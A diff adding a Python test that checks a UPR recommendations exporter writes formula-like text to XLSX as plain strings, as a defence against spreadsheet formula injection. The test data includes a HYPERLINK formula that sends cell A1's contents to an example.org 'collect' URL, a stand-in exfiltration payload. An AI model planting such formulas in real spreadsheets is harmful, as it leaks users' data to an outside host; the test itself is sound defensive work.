@@ -155,3 +155,16 @@ def test_site_exports_equal_the_sources(built_site):
     assert svn == {k: v for k, v in expected.items() if k[0] == "SVN"}
     ws = openpyxl.load_workbook(folder / "all.xlsx", read_only=True).active
     assert sum(1 for _ in ws.iter_rows()) == sum(expected.values()) + 1
+
+
+def test_xlsx_text_that_looks_like_a_formula_stays_a_string():
+    """Case 38: a text starting with '=' (imported or contributed) is a string cell, never a formula."""
+    formula = '=HYPERLINK("https://example.org/collect?d="&A1,"Open the evidence folder")'
+    rec = recommendations.Recommendation
+    recs = [rec("KEN-49-1.1", "KEN", 4, 49, "1.1", formula, ["FRA"], issues=["+ Law adopted", "@KenyaUPRCoalition"]),
+            rec("KEN-49-1.2", "KEN", 4, 49, "1.2", "- Two county plans", ["FRA"])]
+    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(recs, followup.FollowUp()))).active
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert [sheet.cell(row=r, column=6).value for r in (2, 3)] == [formula, "- Two county plans"]
+    assert sheet.cell(row=2, column=10).value == "+ Law adopted;@KenyaUPRCoalition"
